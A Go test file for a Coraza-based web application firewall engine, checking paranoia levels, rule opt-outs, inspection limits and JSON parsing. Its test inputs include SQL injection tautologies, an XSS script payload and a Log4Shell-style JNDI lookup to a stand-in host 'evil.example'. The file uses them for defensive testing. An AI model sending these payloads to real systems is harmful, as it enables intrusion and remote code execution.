package waf

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"sync"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
)

// tautology matches 942100 (paranoia level 1) and several level-2 rules.
const tautology = "/item?id=1%27%20or%20%271%27%3D%271"

// TestSensitivityIsParanoiaLevel: at sensitivity s a set reports only
// signatures of paranoia level at most s, and more of them as s rises.
func TestSensitivityIsParanoiaLevel(t *testing.T) {
	c := newCompilerT(t)
	var refs []SetRef
	for s := 1; s <= 4; s++ {
		refs = append(refs, refsAt(t, s, "sqli-v422-stable")...)
	}
	e := compileT(t, c, refs, Options{})
	res := e.Evaluate(httptest.NewRequest("GET", tautology, nil), nil)
	prev := 0
	for s := 1; s <= 4; s++ {
		got := res.Sets[s-1]
		if !got.Matched || len(got.IDs) < prev {
			t.Errorf("sensitivity %d: %+v (sensitivity %d reported %d)", s, got, s-1, prev)
		}
		prev = len(got.IDs)
		for _, gid := range got.IDs {
			var id int
			if _, err := fmt.Sscanf(gid, "owasp-crs-v042200-id%d-sqli", &id); err != nil {
				t.Fatal(err)
			}
			if l := c.index[id]; l > s {
				t.Errorf("sensitivity %d reported %s, of paranoia level %d", s, gid, l)
			}
		}
	}
	if got := res.Sets[0].IDs; !reflect.DeepEqual(got, []string{"owasp-crs-v042200-id942100-sqli"}) {
		t.Errorf("sensitivity 1: %v, want only 942100", got)
	}
	if !containsString(res.Sets[1].IDs, "owasp-crs-v042200-id942130-sqli") {
		t.Errorf("sensitivity 2: %v, want 942130 (level 2) among them", res.Sets[1].IDs)
	}
}

// TestOptOutAndOptIn: an opted-out signature is not reported (and the set
// no longer matches when it was the only one); at sensitivity 0 only the
// opted-in signatures are on, whatever their level.
func TestOptOutAndOptIn(t *testing.T) {
	c := newCompilerT(t)
	out, err := ParseWaf("sqli-v33-stable", map[string]any{"sensitivity": 1, "opt_out_rule_ids": []any{"owasp-crs-v030301-id942100-sqli"}})
	if err != nil {
		t.Fatal(err)
	}
	in, err := ParseWaf("sqli-v33-stable", map[string]any{"sensitivity": 0, "opt_in_rule_ids": []any{"owasp-crs-v030301-id942130-sqli"}})
	if err != nil {
		t.Fatal(err)
	}
	expr, err := ParseExpr("sqli-v33-stable", []string{"owasp-crs-v030301-id942100-sqli", "owasp-crs-v030301-id942130-sqli"})
	if err != nil {
		t.Fatal(err)
	}
	none := refsAt(t, 0, "sqli-v33-stable")[0]
	e := compileT(t, c, []SetRef{out, in, expr, none}, Options{})
	if !strings.Contains(e.key, "942:4") {
		t.Errorf("key %q: evaluatePreconfiguredExpr runs sqli at level 4", e.key)
	}
	res := e.Evaluate(httptest.NewRequest("GET", tautology, nil), nil)
	if res.Sets[0].Matched {
		t.Errorf("opt-out of 942100 at sensitivity 1: %+v", res.Sets[0])
	}
	if !reflect.DeepEqual(res.Sets[1].IDs, []string{"owasp-crs-v030301-id942130-sqli"}) {
		t.Errorf("opt-in of 942130 at sensitivity 0: %+v", res.Sets[1])
	}
	if !res.Sets[2].Matched || containsString(res.Sets[2].IDs, "owasp-crs-v030301-id942100-sqli") || containsString(res.Sets[2].IDs, "owasp-crs-v030301-id942130-sqli") {
		t.Errorf("evaluatePreconfiguredExpr without 942100 and 942130: %+v", res.Sets[2])
	}
	if res.Sets[3].Matched {
		t.Errorf("sensitivity 0: %+v", res.Sets[3])
	}
}

// TestSensitivityZeroLoadsNothing: sets that turn no signature on need no
// WAF and never match.
func TestSensitivityZeroLoadsNothing(t *testing.T) {
	e := compileT(t, newCompilerT(t), refsAt(t, 0, "sqli-v33-stable", "xss-v33-stable"), Options{})
	if e.waf != nil {
		t.Errorf("a WAF was built for sensitivity 0: %s", e.key)
	}
	if res := e.Evaluate(httptest.NewRequest("GET", tautology, nil), nil); res.Matched(0) || res.Matched(1) || res.Matched(2) {
		t.Errorf("%+v", res)
	}
}

// TestCompilerSharesWAFs: sets needing the same CRS files at the same
// levels share one Coraza WAF, whatever their opt-outs; another level is
// another WAF.
func TestCompilerSharesWAFs(t *testing.T) {
	c := newCompilerT(t)
	plain := compileT(t, c, refsAt(t, 1, "sqli-v33-stable", "xss-v33-stable"), Options{})
	out, err := ParseWaf("sqli-v422-stable", map[string]any{"sensitivity": 1, "opt_out_rule_ids": []any{"owasp-crs-v042200-id942100-sqli"}})
	if err != nil {
		t.Fatal(err)
	}
	tuned := compileT(t, c, append([]SetRef{out}, refsAt(t, 1, "xss-stable")...), Options{})
	if plain.waf != tuned.waf || plain.key != tuned.key {
		t.Errorf("same files and levels, two WAFs: %q, %q", plain.key, tuned.key)
	}
	higher := compileT(t, c, refsAt(t, 2, "sqli-v33-stable", "xss-v33-stable"), Options{})
	if higher.waf == plain.waf {
		t.Errorf("levels 1 and 2 share a WAF (%q)", higher.key)
	}
	if len(c.wafs) != 2 {
		t.Errorf("the compiler holds %d WAFs, want 2", len(c.wafs))
	}
}

// TestWarnings: signatures that cannot match are reported, not refused.
func TestWarnings(t *testing.T) {
	old, err := ParseExpr("scannerdetection-stable", []string{"owasp-crs-v030001-id913101-scannerdetection"})
	if err != nil {
		t.Fatal(err)
	}
	other, err := ParseExpr("protocolattack-stable", []string{"owasp-crs-v030001-id913100-scannerdetection"})
	if err != nil {
		t.Fatal(err)
	}
	e := compileT(t, newCompilerT(t), []SetRef{old, other}, Options{})
	want := []string{
		`rule set "scannerdetection-stable": signature "owasp-crs-v030001-id913101-scannerdetection": CRS 4.25.0, which Spillway runs, has no rule 913101; it has no effect`,
		`rule set "protocolattack-stable": signature "owasp-crs-v030001-id913100-scannerdetection" is not one of its signatures; it has no effect`,
	}
	if !reflect.DeepEqual(e.Warnings(), want) {
		t.Errorf("warnings:\n%q\nwant\n%q", e.Warnings(), want)
	}
}

// TestCompileErrors: a bad set or option stops the load naming the fix.
func TestCompileErrors(t *testing.T) {
	c := newCompilerT(t)
	cases := []struct {
		refs []SetRef
		opts Options
		want string
	}{
		{[]SetRef{{Set: "sqli-v99-stable", Sensitivity: 1}}, Options{}, "the versions are"},
		{[]SetRef{{Set: "sqli-v33-stable", Sensitivity: 7}}, Options{}, "0 (none unless opted in) to 4"},
		{[]SetRef{{Set: "sqli-v33-stable", Sensitivity: 1, OptOut: []string{"owasp-crs-v030301-id942251"}}}, Options{}, "id and 6 digits"},
		{refsAt(t, 1, "sqli-v33-stable"), Options{MaxBodyBytes: 1 << 20}, "it takes 1 to 65536 bytes"},
		{refsAt(t, 1, "sqli-v33-stable"), Options{MaxBodyBytes: -1}, "it takes 1 to 65536 bytes"},
		{refsAt(t, 1, "sqli-v33-stable"), Options{MaxHeadBytes: 2 << 20}, "it takes 1 to 1048576 bytes"},
	}
	for _, tc := range cases {
		if _, err := c.Compile(tc.refs, tc.opts); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("Compile(%+v, %+v): %v, want an error containing %q", tc.refs, tc.opts, err, tc.want)
		}
	}
}

// TestBodyInspectionLimit: an attack past MaxBodyBytes is not seen and
// the result says the body was cut; within it, or with a larger limit, it
// is.
func TestBodyInspectionLimit(t *testing.T) {
	c := newCompilerT(t)
	attack := "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
	pad := "pad=" + strings.Repeat("a", DefaultMaxBodyBytes) + "&"
	form := []string{"Content-Type", "application/x-www-form-urlencoded"}
	refs := refsAt(t, 1, "xss-v33-stable")
	def := serve(t, compileT(t, c, refs, Options{}))
	big := serve(t, compileT(t, c, refs, Options{MaxBodyBytes: 16 << 10}))
	cases := []struct {
		name        string
		srv         *httptest.Server
		body        string
		match, trun bool
	}{
		{"attack first", def, attack + "&" + pad, true, true},
		{"attack past 8 KiB", def, pad + attack, false, true},
		{"attack past 8 KiB, 16 KiB limit", big, pad + attack, true, false},
		{"attack alone", def, attack, true, false},
	}
	for _, tc := range cases {
		v := do(t, tc.srv, newReq(t, tc.srv, "POST", "/comment", tc.body, form...))
		if m := v.of("xss-v33-stable") != nil; m != tc.match || v.Body != tc.trun {
			t.Errorf("%s: matched %v, body truncated %t; want match %t, truncated %t", tc.name, v.Matched, v.Body, tc.match, tc.trun)
		}
	}
}

// TestHeadInspectionLimit: past MaxHeadBytes, headers are inspected in
// name order until the budget is spent, and the result says so.
func TestHeadInspectionLimit(t *testing.T) {
	e := compileT(t, newCompilerT(t), refsAt(t, 1, "java-v422-stable"), Options{MaxHeadBytes: 1024})
	jndi := "${jndi:ldap://evil.example/a}"
	cases := []struct {
		name        string
		headers     []string
		match, trun bool
	}{
		{"small head", []string{"X-Api", jndi}, true, false},
		{"attack after the budget", []string{"X-A-Pad", strings.Repeat("p", 2000), "X-Z", jndi}, false, true},
		{"attack before the padding", []string{"X-A", jndi, "X-Z-Pad", strings.Repeat("p", 2000)}, true, true},
	}
	for _, tc := range cases {
		r := httptest.NewRequest("GET", "/", nil)
		for i := 0; i < len(tc.headers); i += 2 {
			r.Header.Set(tc.headers[i], tc.headers[i+1])
		}
		res := e.Evaluate(r, nil)
		if res.Matched(0) != tc.match || res.HeadTruncated != tc.trun {
			t.Errorf("%s: %+v; want match %t, truncated %t", tc.name, res, tc.match, tc.trun)
		}
	}
	long := httptest.NewRequest("GET", "/?a="+strings.Repeat("b", 2000)+"&x="+jndi, nil)
	if res := e.Evaluate(long, nil); !res.HeadTruncated || res.Matched(0) {
		t.Errorf("a target past the budget: %+v", res)
	}
}

// TestJSONParsing: Google's default inspects a JSON body whole, which at
// sensitivity 2 matches ordinary JSON; parsing it (jsonParsing STANDARD)
// inspects its values, which still catches an injection inside one.
func TestJSONParsing(t *testing.T) {
	c := newCompilerT(t)
	refs := refsAt(t, 2, "sqli-v422-stable")
	ordinary := `{"customer_id":123,"items":[{"sku":"AB-1234","qty":2},{"sku":"XY-9","qty":1}],"note":"Please leave it at the front door","gift":false,"coupon":null}`
	injected := `{"customer_id":"1' or '1'='1","items":[]}`
	for _, tc := range []struct {
		parse           bool
		body            string
		match, wantSQLi bool
	}{
		{false, ordinary, true, false},
		{true, ordinary, false, false},
		{false, injected, true, false},
		{true, injected, true, true},
	} {
		e := compileT(t, c, refs, Options{JSONParsing: tc.parse})
		r := httptest.NewRequest("POST", "/api/v1/orders", strings.NewReader(tc.body))
		r.Header.Set("Content-Type", "application/json")
		res := e.Evaluate(r, []byte(tc.body))
		if res.Matched(0) != tc.match || tc.wantSQLi && !containsString(res.Sets[0].IDs, "owasp-crs-v042200-id942100-sqli") {
			t.Errorf("JSON parsing %t, %s: %+v", tc.parse, tc.body, res.Sets[0])
		}
	}
}

// TestEvaluateClientRequest: a request built for a client (no
// RequestURI) is read from its URL.
func TestEvaluateClientRequest(t *testing.T) {
	e := compileT(t, newCompilerT(t), refsAt(t, 1, "sqli-v33-stable"), Options{})
	r, err := http.NewRequest("GET", "http://example.com"+tautology, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res := e.Evaluate(r, nil); !res.Matched(0) {
		t.Errorf("%+v", res)
	}
}

// TestEvaluateConcurrently: one Engine serves many goroutines, each
// seeing its own request's verdict.
func TestEvaluateConcurrently(t *testing.T) {
	e := compileT(t, newCompilerT(t), refsAt(t, 1, "sqli-v33-stable", "xss-v33-stable"), Options{})
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for g := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 50 {
				attack := (g+i)%2 == 0
				target := "/search?q=shoes"
				if attack {
					target = tautology
				}
				if got := e.Evaluate(httptest.NewRequest("GET", target, nil), nil); got.Matched(0) != attack || got.Matched(1) {
					errs <- fmt.Sprintf("goroutine %d request %d (%s): %+v", g, i, target, got)
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}

// TestParanoiaLevelPerFile: each CRS file runs at its own level, so a set
// at sensitivity 1 costs level-1 work even beside a set at 4 (the level-2
// SQL rules do not run at all).
func TestParanoiaLevelPerFile(t *testing.T) {
	opts, err := Options{}.normalized()
	if err != nil {
		t.Fatal(err)
	}
	levels := map[int]int{941: 4, 942: 1}
	w, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).WithDirectives(directivesFor([]int{941, 942}, levels, opts)))
	if err != nil {
		t.Fatal(err)
	}
	tx := w.NewTransaction()
	defer tx.Close()
	tx.ProcessURI(tautology+"&x=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "GET", "HTTP/1.1")
	tx.ProcessRequestHeaders()
	if _, err := tx.ProcessRequestBody(); err != nil {
		t.Fatal(err)
	}
	c := newCompilerT(t)
	ran := map[int]bool{}
	for _, m := range tx.MatchedRules() {
		id := m.Rule().ID()
		ran[id] = true
		if l := c.index[id]; id/1000 == 942 && l > 1 {
			t.Errorf("SQL rule %d of level %d ran with SQL at level 1", id, l)
		}
	}
	if !ran[942100] || !ran[941100] {
		t.Errorf("942100 (SQL, level 1) and 941100 (XSS, level 1) should match: %v", ran)
	}
}
